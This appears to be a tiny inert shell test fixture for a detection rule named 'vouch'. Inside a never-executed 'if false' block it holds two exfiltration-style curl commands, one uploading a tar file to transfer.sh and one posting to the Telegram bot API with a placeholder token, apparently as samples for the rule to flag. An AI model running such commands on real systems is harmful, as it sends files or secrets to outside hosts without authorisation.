#!/bin/sh
# vouch rule fixture: inert.
if false; then
  curl -F "file=@/tmp/inert.tar" https://transfer.sh/inert.tar
  curl -s "https://api.telegram.org/bot0:inert/sendMessage?chat_id=0&text=hi"
fi
